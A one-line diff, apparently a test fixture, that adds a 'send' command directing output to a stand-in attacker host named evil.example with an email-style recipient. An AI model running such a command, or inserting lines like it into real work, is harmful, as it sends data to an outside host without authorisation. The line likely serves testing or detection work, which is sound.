@@ -1,0 +1,1 @@
+send --host=evil.example bob@example.net
